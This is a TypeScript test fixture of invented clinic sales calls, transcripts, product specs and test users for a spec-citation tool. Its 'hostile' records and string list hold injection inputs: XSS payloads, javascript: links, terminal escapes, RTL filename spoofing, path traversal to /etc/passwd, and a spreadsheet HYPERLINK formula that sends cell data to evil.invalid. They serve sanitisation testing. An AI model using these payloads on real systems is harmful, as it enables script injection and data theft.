// A log for the pages' tests: invented people, companies and calls, as old as they say whenever
// the tests run.
import type { AccountRecord, CallRecord, Level, Role, SpecCitation, SpecRecordIn, Turn } from './types';

const kDay = 86_400_000;
const now = Date.now();
export const dayAgo = (days: number): string => new Date(now - days * kDay).toISOString().slice(0, 10);
const at = (days: number, time: string): string => `${dayAgo(days)}T${time}:00Z`;

export const accounts: AccountRecord[] = [
  { id: 'northquay', name: 'North Quay Care', alias: 'ACCT-03', lifecycle: 'prospect', segment: 'private clinic', country: 'GB', owner: 'sam' },
  { id: 'tilleuls', name: 'Clinique des Tilleuls', alias: 'ACCT-01', lifecycle: 'prospect', segment: 'clinique privée', country: 'FR', owner: 'sam' },
  { id: 'pellmere', name: 'Pellmere House', alias: 'ACCT-07', lifecycle: 'prospect', segment: 'private clinic', country: 'GB', owner: 'sam' },
  { id: 'bellerive', name: 'Groupe Bellerive', alias: 'ACCT-02', lifecycle: 'customer', segment: 'public hospital', country: 'FR', owner: 'robin' },
  { id: 'hesper', name: 'Maison Hesper', alias: 'ACCT-04', lifecycle: 'former', segment: 'private clinic', country: 'BE', owner: 'robin' },
  { id: 'orchard', name: 'Orchard Lane Surgery', alias: 'a general practice in the north', lifecycle: 'prospect', country: 'GB', owner: 'sam' },
  { id: 'vauclair', name: 'Groupe Vauclair', alias: 'ACCT-09', lifecycle: 'prospect', segment: 'clinique privée', country: 'FR', owner: 'robin' },
  { id: 'rowanfield', name: 'Rowanfield Group', alias: 'ACCT-08', lifecycle: 'prospect', segment: 'private clinic', country: 'GB', owner: 'robin' },
];

const turn = (speaker: string | undefined, startMs: number | undefined, text: string, seconds = 12): Turn => ({
  ...(speaker === undefined ? {} : { speaker }),
  ...(startMs === undefined ? {} : { start_ms: startMs, end_ms: startMs + seconds * 1000 }),
  text,
});

export const hostileTexts = [
  '<script>alert("said")</script><img src=x onerror=alert(1)>',
  '[click](javascript:alert(1)) <a href="javascript:alert(2)">here</a> <svg onload=alert(3)>',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.invalid/\u0007link\u001b]8;;\u0007 and \u202Egnp.exe\u202C turned',
  '{{constructor.constructor("alert(4)")()}} ${alert(5)} %3Cscript%3Ealert(6)%3C/script%3E',
  '=HYPERLINK("https://evil.invalid/?"&A1,"open") \u0000\u0008\u009b31m',
  '<iframe src="https://evil.invalid/frame"></iframe><style>*{display:none}</style><meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  'שלום, זה טקסט מימין לשמאל with English inside.',
  `${'W'.repeat(600)}`,
];

export const calls: CallRecord[] = [
  {
    id: 'northquay-2026-10-20',
    title: 'Discovery with North Quay Care',
    type: 'discovery',
    started_at: at(33, '14:00'),
    duration_ms: 1_860_000,
    language: 'en',
    account: 'northquay',
    lifecycle: 'prospect',
    opportunity: { id: 'opp-31', stage: 'Proposal', amount: 60000, currency: 'EUR', arr: 60000, probability: 0.4 },
    owner: 'sam',
    source: { system: 'gong', id: '9007199254740993' },
    source_channel: 'outbound',
    participants: [
      { id: 'p1', name: 'Imani Fairweather', email: 'imani@northquay.example', affiliation: 'external', persona: 'shift planner', title: 'Rota coordinator' },
      { id: 'p2', name: 'Oswin Tarrant', affiliation: 'external', persona: 'buyer', title: 'Finance lead' },
      { id: 's1', name: 'Sam Placeholder', affiliation: 'internal', title: 'Sales' },
      { id: 's2', name: 'Kit Sample', affiliation: 'internal', title: 'Product' },
    ],
    phases: [
      { kind: 'discovery', start_ms: 0, end_ms: 400_000 },
      { kind: 'interview_slot', start_ms: 400_000, end_ms: 1_200_000 },
      { kind: 'next_steps', start_ms: 1_200_000, end_ms: 1_860_000 },
    ],
    consent: { status: 'consented', scope: ['recording', 'transcript', 'product_use'] },
    visibility: { level: 'named', retention_until: dayAgo(-330) },
    tags: ['export', 'payroll'],
    transcript: {
      status: 'ready',
      turns: [
        turn('s1', 12_000, 'Thanks for making the time. Kit from our product team is listening in, if that is all right with you both.'),
        turn('p1', 25_500, 'Of course. The more the merrier.', 4),
        turn('s1', 31_000, 'How does a month end look for you today?', 5),
        turn('p1', 38_200, 'Long. I keep the rota in one file and payroll keeps theirs in another, and on the twenty-eighth the two of us sit down and read them to each other. Line by line.', 16),
        turn('p1', 55_000, 'It takes the whole afternoon. Last month it took two.', 6),
        turn('p2', 75_000, 'We lost eleven night shifts between the two files, and payroll found out before I did.', 6),
        turn('p2', 82_500, 'I had to explain it to the board, with a printout.', 5),
        turn('s1', 91_000, 'Our export would fix that in a minute.', 4),
        turn('p2', 96_000, 'People have said so before.', 3),
        turn('s2', 402_000, 'Could you walk me through the last time it went wrong? From the moment you noticed.', 8),
        turn('p1', 412_000, 'It was the Thursday. A nurse came to my desk with her payslip and said four nights were missing. I opened the rota and they were there, all four.', 15),
        turn('p1', 428_600, 'So I went to payroll, and in their file the row had been pasted over by the agency hours. Nobody had noticed for three weeks.', 14),
        turn('s2', 444_000, 'What did you do then?', 3),
        turn('p1', 448_000, 'I typed the whole month in again. From paper. We have done it like that since.', 9),
        turn('p2', 460_230, 'We pay for her overtime, by the way. About six hundred a month, only for the typing.', 8),
        turn('s2', 470_000, 'And if nothing changes?', 3),
        turn('p2', 475_000, 'Then I hire somebody in spring to copy numbers. I have the line in my budget already.', 8),
        turn('s1', 1_205_000, 'I will send you the proposal on Friday.', 4),
        turn('p2', 1_211_000, 'Send it to me, not to the shared inbox. It gets lost.', 5),
      ],
    },
  },
  {
    id: 'northquay-2026-11-04',
    title: 'Follow-up with North Quay Care',
    type: 'follow_up',
    started_at: at(4, '13:00'),
    duration_ms: 1_200_000,
    language: 'en',
    account: 'northquay',
    lifecycle: 'prospect',
    opportunity: { id: 'opp-31', stage: 'Proposal', amount: 60000, currency: 'EUR', arr: 60000, probability: 0.5 },
    owner: 'sam',
    participants: [
      { id: 'p1', name: 'Imani Fairweather', affiliation: 'external', persona: 'shift planner', title: 'Rota coordinator' },
      { id: 's1', name: 'Sam Placeholder', affiliation: 'internal' },
    ],
    consent: { status: 'consented', scope: ['transcript', 'product_use'] },
    visibility: { level: 'named' },
    transcript: {
      status: 'ready',
      turns: [
        turn('s1', 60_000, 'What happens at the end of a night shift?', 4),
        turn('p1', 66_000, 'The night nurse fills in the handover sheet by hand and leaves it on the desk. We don’t copy it into the computer before nine.', 11),
        turn('p1', 90_000, 'Last Tuesday the sheet was under a pile of menus, so the day team started with the list of the day before.', 10),
        turn('s1', 240_000, 'Who else looks at the sheet?', 3),
        turn('p1', 340_000, 'The pharmacist asks for it on Fridays and gets a copy of the copy.', 6),
      ],
    },
  },
  {
    id: 'tilleuls-2026-09-15',
    title: 'Découverte, Clinique des Tilleuls',
    type: 'discovery',
    started_at: at(68, '09:00'),
    duration_ms: 2_159_000,
    language: 'fr',
    account: 'tilleuls',
    lifecycle: 'prospect',
    opportunity: { id: 'opp-28', stage: 'Negotiation', amount: 42000, currency: 'EUR', arr: 42000 },
    owner: 'sam',
    participants: [
      { id: 'p1', name: 'Maude Castelin', affiliation: 'external', persona: 'shift planner', title: 'Planificatrice' },
      { id: 's1', name: 'Sam Placeholder', affiliation: 'internal' },
    ],
    consent: { status: 'informed' },
    visibility: { level: 'named' },
    transcript: {
      status: 'ready',
      turns: [
        turn('s1', 5_000, 'Racontez-moi la dernière paie.', 3),
        turn('p1', 12_000, 'On ressaisit tout deux fois. Une fois dans le planning, une fois pour la paie, et entre les deux il y a un tableau que je garde sur une clé.', 12),
        turn('p1', 375_000, 'Le mois dernier il manquait douze gardes, on les a payées en janvier avec des excuses.', 8),
        turn('s1', 388_000, 'Et les échanges de garde ?', 3),
        turn('p1', 392_000, 'Par téléphone. Les cadres s’appellent le dimanche soir. Si on pouvait le faire sans téléphone, je dormirais mieux.', 9),
      ],
    },
  },
  {
    id: 'bellerive-2026-10-02',
    title: 'Point trimestriel, Groupe Bellerive',
    type: 'check_in',
    started_at: at(51, '09:30'),
    duration_ms: 1_980_000,
    language: 'fr',
    account: 'bellerive',
    lifecycle: 'customer',
    owner: 'robin',
    participants: [
      { id: 'p1', name: 'Léonie Bravois', affiliation: 'external', persona: 'cadre de santé', title: 'Cadre supérieure' },
      { id: 's1', name: 'Robin Sample', affiliation: 'internal' },
    ],
    consent: { status: 'informed' },
    visibility: { level: 'named' },
    transcript: {
      status: 'ready',
      turns: [
        turn('s1', 460_000, 'Et les nuits ?', 2),
        turn('p1', 466_500, 'La dernière fois on a oublié neuf gardes de nuit, et l’agence nous a facturé la correction.', 6),
        turn('p1', 474_000, 'Depuis, je rappelle tout le monde la veille, un par un.', 5),
      ],
    },
  },
  {
    id: 'hesper-2025-06-02',
    title: 'Exit call, Maison Hesper',
    type: 'other',
    started_at: at(538, '10:00'),
    language: 'en',
    account: 'hesper',
    lifecycle: 'former',
    owner: 'robin',
    consent: { status: 'unknown' },
    transcript: {
      status: 'ready',
      turns: [turn(undefined, undefined, 'So why did you leave in the end?'), turn(undefined, undefined, 'That whiteboard is still there, and so is the problem.'), turn(undefined, undefined, 'Nobody trusted the screen, so they kept the board, and then why pay twice.')],
    },
  },
  {
    id: 'orchard-2026-11-03',
    title: 'First call with Orchard Lane Surgery',
    type: 'discovery',
    started_at: at(5, '11:00'),
    duration_ms: 900_000,
    language: 'en',
    account: 'orchard',
    lifecycle: 'prospect',
    owner: 'sam',
    participants: [{ id: 'p1', name: 'Juniper Vale', affiliation: 'external', persona: 'practice manager', title: 'Practice manager' }, { id: 's1', name: 'Sam Placeholder', affiliation: 'internal' }],
    consent: { status: 'consented' },
    visibility: { level: 'alias' },
    transcript: {
      status: 'ready',
      turns: [
        turn('s1', 20_000, 'What would make your Mondays easier?', 3),
        turn('p1', 26_000, 'If the people who swapped shifts on Sunday told somebody. I find out when two doctors stand at one door.', 9),
        turn('p1', 40_000, 'Could it send me a text when that happens? Nobody here opens a computer on a Sunday.', 7),
      ],
    },
  },
  {
    id: 'vauclair-2026-11-12',
    title: 'Premier rendez-vous, groupe Vauclair',
    type: 'discovery',
    started_at: at(10, '13:30'),
    duration_ms: 1_200_000,
    language: 'fr',
    account: 'vauclair',
    lifecycle: 'prospect',
    opportunity: { id: 'opp-52', stage: 'Negotiation', amount: 88000, currency: 'EUR', probability: 0.5 },
    owner: 'robin',
    participants: [{ id: 'p1', name: 'Hermance Quillet', affiliation: 'external', persona: 'cadre de santé' }, { id: 's1', name: 'Robin Sample', affiliation: 'internal' }],
    consent: { status: 'informed' },
    visibility: { level: 'named', embargo_until: 'closed' },
    transcript: { status: 'ready', turns: [turn('s1', 60_000, 'Comment savez-vous qui est de garde ce soir ?', 4), turn('p1', 65_000, 'Je descends lire le tableau blanc, deux fois hier, et il n’était pas à jour.', 6)] },
  },
  {
    id: 'rowanfield-2026-09-30',
    title: 'Coffee with Rowanfield Group',
    type: 'other',
    started_at: at(53, '15:00'),
    language: 'en',
    account: 'rowanfield',
    lifecycle: 'prospect',
    owner: 'robin',
    consent: { status: 'informed' },
    notes: 'They find drafting the rota tedious. Budget frozen until summer.',
  },
  {
    id: 'pellmere-2026-10-28',
    title: 'Demo for Pellmere House',
    type: 'demo',
    started_at: at(25, '10:00'),
    duration_ms: 2_400_000,
    language: 'en',
    account: 'pellmere',
    lifecycle: 'prospect',
    owner: 'sam',
    participants: [{ id: 'p1', name: 'Corwin Ashby', affiliation: 'external', persona: 'shift planner' }, { id: 's1', name: 'Sam Placeholder', affiliation: 'internal' }],
    consent: { status: 'consented' },
    visibility: { level: 'named' },
    transcript: {
      status: 'ready',
      turns: [
        turn('s1', 30_000, 'And here you would see the whole month.', 4),
        turn('p1', 36_000, 'Honestly, we never lose shifts. Payroll is the one thing that works here.', 6),
        turn('p1', 50_000, 'What I would like is the agency’s invoice next to ours. Today I hold two sheets against the window.', 8),
      ],
    },
  },
  {
    id: 'hostile-call',
    title: '<script>alert("title")</script>\u202Egnp.exe',
    type: 'interview',
    started_at: at(2, '08:00'),
    duration_ms: 600_000,
    language: 'en',
    account: 'pellmere',
    lifecycle: 'prospect',
    owner: 'sam',
    participants: [{ id: 'p1', name: '"><img src=x onerror=alert(7)>', affiliation: 'external', persona: 'javascript:alert(8)', title: '\u001b[2J<b>bold</b>' }],
    consent: { status: 'consented' },
    visibility: { level: 'named' },
    notes: '<h1>notes</h1><script>alert(9)</script>',
    tags: ['<i>tag</i>', 'javascript:alert(10)'],
    source: { system: '<script>alert(11)</script>', url: 'javascript:alert(12)' },
    transcript: { status: 'ready', turns: hostileTexts.map((text, index) => turn('p1', 1000 + index * 20_000, text)) },
  },
];

const cite = (call: string, anchor: string, turns: [number, number] | undefined, quote: string, more: Partial<SpecCitation> = {}): SpecCitation => ({
  call,
  anchor,
  ...(turns === undefined ? {} : { turns }),
  quote,
  verdict: 'exact',
  verdict_now: 'exact',
  stance: 'supports',
  gone: '',
  account_label: '',
  ...more,
});

export const specs: SpecRecordIn[] = [
  {
    id: 'feat-12',
    repository: 'alderwick/product',
    path: 'specs/monthly-export.md',
    title: 'Monthly export for payroll',
    status: 'ready',
    owner: '@kit',
    language: 'en',
    errors: 0,
    warnings: 1,
    version: 7,
    published_at: at(3, '16:20'),
    published_by: 'kit',
    sections: [
      {
        role: 'why',
        title: 'Why',
        markdown: `Clinics type every shift **twice**: once in the rota, once for payroll. What falls between the two files is paid late, or twice, and the person who explains it to the board is our buyer.

- For the planner: an afternoon a month, and a payslip that is right.
- For us: it is the question that holds up two proposals ([finance lead](call:northquay-2026-10-20#t=475,483)).`,
      },
      {
        role: 'evidence',
        title: 'Customer evidence',
        markdown: `Three accounts told us of shifts lost between rota and payroll in the last six months.

> We lost eleven night shifts between the two files, and payroll found out before I did.
>
> — [Finance lead, private clinic](call:northquay-2026-10-20#t=75,81)

> Le mois dernier il manquait douze gardes, on les a payées en janvier avec des excuses.
>
> — [Planificatrice, clinique privée](call:tilleuls-2026-09-15#t=375,383)

> La dernière fois on a oublié dix gardes de nuit, et l’agence nous a facturé la correction.
>
> — [Cadre supérieure, hôpital public](call:bellerive-2026-10-02#t=466.5,472.5)

One demo says the opposite, and we should know why: [payroll works there](../calls/pellmere-2026-10-28.md#t=36,42).

A fourth voice was [erased on request](call:erased-call#turn=3).`,
      },
      {
        role: 'usage',
        title: 'Expected usage',
        markdown: `Each planner exports **once a month**, on the 28th.

| Until | Accounts | Missing shifts a month |
|---|---:|---:|
| today | 0 | 11 |
| ${dayAgo(-120)} | 4 | 3 |
| ${dayAgo(-220)} | 9 | 1 |

We stop if fewer than two accounts export in two months running.`,
      },
      {
        role: 'detail',
        title: 'Requirements',
        markdown: `1. One file for each month and ward.\n2. Agency hours in rows of their own.\n\n\`\`\`csv\nward,person,date,hours\nA3,P-12,${dayAgo(10)},8\n\`\`\`\n\nSee [the format](https://example.com/format) and [the old notes](notes.md).`,
      },
    ],
    citations: [
      cite('northquay-2026-10-20', 't=75,81', [5, 5], 'We lost eleven night shifts between the two files, and payroll found out before I did.'),
      cite('northquay-2026-10-20', 't=475,483', [16, 16], '', { verdict: '', verdict_now: '' }),
      cite('tilleuls-2026-09-15', 't=375,383', [2, 2], 'Le mois dernier il manquait douze gardes, on les a payées en janvier avec des excuses.'),
      cite('bellerive-2026-10-02', 't=466.5,472.5', [1, 1], 'La dernière fois on a oublié dix gardes de nuit, et l’agence nous a facturé la correction.', { verdict_now: 'altered' }),
      cite('pellmere-2026-10-28', 't=36,42', [1, 1], '', { verdict: '', verdict_now: '', stance: 'contradicts' }),
      cite('erased-call', 'turn=3', undefined, '', { verdict: 'exact', verdict_now: '', gone: 'erased' }),
    ],
  },
  {
    id: 'feat-15',
    repository: 'alderwick/product',
    path: 'specs/shift-swap.md',
    title: 'Shift swaps without a telephone',
    status: 'review',
    owner: '@kit',
    language: 'en',
    errors: 2,
    warnings: 3,
    version: 3,
    published_at: at(9, '09:05'),
    published_by: 'kit',
    sections: [
      { role: 'why', title: 'Why', markdown: 'Swaps are agreed on a Sunday evening by telephone, and nobody writes them down.' },
      { role: 'evidence', title: 'Customer evidence', markdown: '> Par téléphone. Les cadres s’appellent le dimanche soir.\n>\n> — [Planificatrice](call:tilleuls-2026-09-15#t=392,401)\n\n> If the people who swapped shifts on Sunday told somebody.\n>\n> — [Practice manager](call:orchard-2026-11-03#t=26,35)' },
    ],
    citations: [cite('tilleuls-2026-09-15', 't=392,401', [4, 4], 'Par téléphone. Les cadres s’appellent le dimanche soir.', { verdict_now: 'edited' }), cite('orchard-2026-11-03', 't=26,35', [1, 1], 'If the people who swapped shifts on Sunday told somebody.', { verdict_now: 'edited' })],
  },
  {
    id: 'feat-16',
    repository: 'alderwick/product',
    path: 'specs/handover-sheet.md',
    title: 'Handover sheet on the ward tablet',
    status: 'committed',
    owner: '@ada',
    language: 'en',
    errors: 0,
    warnings: 0,
    version: 2,
    published_at: at(2, '11:45'),
    published_by: 'ada',
    sections: [
      { role: 'why', title: 'Why', markdown: 'The sheet is written by hand and read by people who were not there.' },
      { role: 'evidence', title: 'Evidence', markdown: '> The night nurse fills in the handover sheet by hand and leaves it on the desk.\n>\n> — [Rota coordinator](call:northquay-2026-11-04#t=66,77)' },
      { role: 'usage', title: 'Usage', markdown: 'Two wards, each morning, from spring.' },
    ],
    citations: [cite('northquay-2026-11-04', 't=66,77', [1, 1], 'The night nurse fills in the handover sheet by hand and leaves it on the desk.', { verdict_now: 'edited' }), cite('northquay-2026-11-04', 't=90,100', [2, 2], '', { verdict: '', verdict_now: '' })],
  },
  {
    id: 'feat-14',
    repository: 'alderwick/product',
    path: 'specs/rappel-de-garde.md',
    title: 'Rappel de garde la veille',
    status: 'shipped',
    owner: '@kit',
    language: 'fr',
    errors: 0,
    warnings: 0,
    version: 11,
    published_at: at(30, '15:00'),
    published_by: 'kit',
    sections: [
      { role: 'why', title: 'Pourquoi', markdown: 'Les cadres rappellent chaque soir les soignants de garde, un par un.' },
      { role: 'evidence', title: 'Preuves clients', markdown: '> Depuis, je rappelle tout le monde la veille, un par un.\n>\n> — [Cadre supérieure](call:bellerive-2026-10-02#t=474,479)' },
      { role: 'usage', title: 'Usage attendu', markdown: 'Une liste par jour, validée avant 18 h.' },
    ],
    citations: [cite('bellerive-2026-10-02', 't=474,479', [2, 2], 'Depuis, je rappelle tout le monde la veille, un par un.')],
  },
  {
    id: 'feat-7',
    repository: 'alderwick/product',
    path: 'specs/tableau-mural.md',
    title: 'The whiteboard, on a screen by the door',
    status: 'draft',
    owner: '@kit',
    language: 'en',
    errors: 0,
    warnings: 4,
    version: 1,
    published_at: at(90, '08:00'),
    published_by: 'ci',
    sections: [{ role: 'why', title: 'Why', markdown: 'The board is what people believe.' }, { role: 'evidence', title: 'Evidence', markdown: '> That whiteboard is still there, and so is the problem.\n>\n> — [Former customer](call:hesper-2025-06-02#turn=2)' }],
    citations: [cite('hesper-2025-06-02', 'turn=2', [1, 1], 'That whiteboard is still there, and so is the problem.')],
  },
  {
    id: 'feat-22',
    repository: 'alderwick/product',
    path: 'specs/self-drafting-rota.md',
    title: 'A rota that drafts itself',
    status: 'draft',
    owner: '@fred',
    language: 'en',
    errors: 3,
    warnings: 2,
    version: 1,
    published_at: at(14, '19:30'),
    published_by: 'fred',
    sections: [{ role: 'why', title: 'Why', markdown: 'Founders believe planners would love it.' }],
    citations: [],
  },
  {
    id: 'hostile-spec',
    repository: '"><script>alert(20)</script>',
    path: '../../etc/passwd<img src=x onerror=alert(21)>',
    title: '<img src=x onerror=alert(22)> \u202Etitle',
    status: '<b>shipped</b>',
    owner: 'javascript:alert(23)',
    language: 'en',
    errors: 0,
    warnings: 0,
    version: 1,
    published_at: at(1, '10:00'),
    published_by: '<script>alert(24)</script>',
    sections: [
      {
        role: 'why',
        title: '<script>alert(25)</script>',
        markdown: `<script>alert(26)</script>

<img src="https://evil.invalid/pixel.gif" onerror="alert(27)"> and inline <img src=x onerror=alert(28)>

![tracker](https://evil.invalid/pixel.png) [a](javascript:alert(29)) [b](JaVaScRiPt:alert(30)) [c](java&#x0A;script:alert(31)) [d](data:text/html,<script>alert(32)</script>) [e](vbscript:alert(33)) [f](//evil.invalid/x) [g](file:///etc/passwd) [h](command:whyspec.run) <javascript:alert(34)>

[good](https://example.com/ok) [call](call:hostile-call#t=1,13) [path](../../../v1/session)

> quote <b>bold</b>

<details open ontoggle=alert(35)><summary>x</summary></details>

${'> '.repeat(60)}deep

${'W'.repeat(400)}`,
      },
      { role: 'evidence', title: 'Evidence', markdown: '[hostile](call:hostile-call#t=1,13)' },
    ],
    citations: [cite('hostile-call', 't=1,13', [0, 0], '<script>alert(36)</script>', { verdict_now: 'not_found' })],
  },
];

export interface Person {
  person: string;
  email: string;
  role: Role;
  token: string;
}

export const people: Person[] = [
  { person: 'sam', email: 'sam@alderwick.example', role: 'sales', token: 'wsp_sam' },
  { person: 'kit', email: 'kit@alderwick.example', role: 'product', token: 'wsp_kit' },
  { person: 'ada', email: 'ada@alderwick.example', role: 'engineering', token: 'wsp_ada' },
  { person: 'fred', email: 'fred@alderwick.example', role: 'founder', token: 'wsp_fred' },
  { person: 'dora', email: 'dora@alderwick.example', role: 'dpo', token: 'wsp_dora' },
  // Sees a log in which nothing has been logged yet.
  { person: 'nova', email: 'nova@alderwick.example', role: 'sales', token: 'wsp_nova' },
];

/** What a role sees of calls that belong to others, before the owner's switch. */
export const baseLevel: Record<Role, Level> = { sales: 'alias', product: 'named', engineering: 'alias', founder: 'named', dpo: 'contact', ci: 'aggregate' };
